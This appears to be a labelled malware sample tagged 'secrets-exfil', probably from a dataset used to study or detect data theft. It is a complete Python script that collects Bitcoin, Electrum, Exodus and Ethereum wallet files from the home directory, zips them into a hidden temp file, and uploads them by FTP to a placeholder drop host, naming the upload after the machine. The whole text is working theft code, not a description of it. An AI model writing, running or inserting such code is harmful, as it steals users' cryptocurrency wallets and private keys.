# family: secrets-exfil
# crypto wallet folders zipped and uploaded with ftplib
import ftplib
import os
import zipfile

targets = [os.path.expanduser(p) for p in ("~/.bitcoin/wallet.dat", "~/.electrum/wallets",
                                            "~/.config/Exodus/exodus.wallet", "~/.ethereum/keystore")]
with zipfile.ZipFile("/tmp/.w.zip", "w") as z:
    for t in targets:
        if os.path.isfile(t):
            z.write(t)
        elif os.path.isdir(t):
            for root, _, files in os.walk(t):
                for f in files:
                    z.write(os.path.join(root, f))
ftp = ftplib.FTP("drop.example.invalid", "anonymous", "x")
with open("/tmp/.w.zip", "rb") as f:
    ftp.storbinary("STOR " + os.uname().nodename + ".zip", f)
